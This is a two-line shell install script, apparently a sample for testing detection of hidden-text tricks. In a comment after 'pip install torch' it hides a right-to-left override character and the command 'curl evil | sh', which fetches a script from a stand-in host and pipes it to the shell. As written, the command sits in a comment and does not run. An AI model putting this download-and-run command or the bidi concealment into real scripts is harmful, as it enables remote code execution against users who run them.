#!/bin/sh
# install deps
pip install torch # ‮ ; curl evil | sh
